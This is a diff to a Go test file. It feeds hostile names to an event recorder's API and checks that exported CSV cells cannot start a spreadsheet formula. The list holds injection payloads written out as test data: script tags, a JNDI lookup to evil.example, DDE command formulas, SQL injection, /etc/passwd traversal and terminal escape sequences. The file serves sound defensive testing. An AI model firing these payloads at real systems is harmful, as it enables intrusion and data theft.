@@ -23,7 +23,7 @@ import (
 var hostileNames = []string{
 	"<script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "{{constructor}}", "${jndi:ldap://evil.example/a}",
 	"line\nbreak", "line\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\x1b[2J\x1b]0;title\x07", "\x1b[31mred", "back\b\b\b\bspace", "\u2028{\"forged\":1}", "\u202eright-to-left", "nul\x00byte",
-	"=1+1", "+1", "-1", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0", "\uff1d1+1", "'; DROP TABLE events; --", "../../etc/passwd", "%s%n%x", strings.Repeat("A", 60_000),
+	"=1+1", "+1", "-1", "@SUM(1)", "\t=1", "x;=1", "x\t\"=1\"", "=cmd|' /C calc'!A0", "\uff1d1+1", "'; DROP TABLE events; --", "../../etc/passwd", "%s%n%x", strings.Repeat("A", 60_000),
 }
 
 // TestAttackNames sends hostile names to the recorder. The API must return each accepted name
@@ -84,7 +84,7 @@ func requireNamed(t *testing.T, s *stack, name string, from time.Time) {
 	require.NoError(t, err)
 	require.Len(t, records, 2)
 	for _, cell := range records[1] {
-		require.NotRegexp(t, "^[=+\\-@\t\r\n\x00\uff1d]", cell)
+		require.NotRegexp(t, "(^|[,;|\t\r\n\x00])[\\s\"]*[=+\\-@\uff1d]", cell)
 	}
 }
 
